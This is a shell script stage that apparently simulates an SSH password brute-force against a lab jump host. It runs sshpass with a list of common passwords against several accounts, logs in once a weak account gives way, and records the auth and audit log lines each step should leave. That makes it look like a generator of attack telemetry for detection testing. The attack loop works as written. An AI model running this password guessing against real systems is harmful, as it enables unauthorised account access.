# Password guessing against the jump host, four at a time, from one outside address, until a shared account gives way.

guess() { in_host outside1 timeout 20 sshpass -p "$2" ssh -b "$GUESSER" "$1@$JUMP" true >/dev/null 2>&1 || true; }

guess_round() {
  local password=$1 account
  for account in admin operator harbour "$WEAK_ACCOUNT"; do guess "$account" "$password" & GUESSES+=("$!"); done
  wait "${GUESSES[@]}"; GUESSES=()
}

begin_stage brute-force 1 hts-jump1 "$GUESSER" "$WEAK_ACCOUNT" 'Password guessing until a shared account gives way'
did "44 guesses at admin, operator, harbour and $WEAK_ACCOUNT" \
  jump1:auth "Failed password for invalid user admin from $GUESSER port " \
  jump1:auth "Failed password for $WEAK_ACCOUNT from $GUESSER port " \
  jump1:audit "addr=$GUESSER terminal=ssh res=failed"
GUESSES=()
for password in 123456 password admin operator harbour Harbour Harbour1 letmein time ntp qwerty; do guess_round "$password"; done
{
  sleep 1.5
  say "ls -l /etc/ssh" jump1:audit 'a0="ls" a1="--color=auto" a2="-l" a3="/etc/ssh"'
  hush exit
} | { did "login as $WEAK_ACCOUNT with the right guess" jump1:auth "Accepted password for $WEAK_ACCOUNT from $GUESSER port "
      from_outside "$GUESSER" "$WEAK_ACCOUNT" "$WEAK_PASSWORD" "$JUMP"; } || true
end_stage
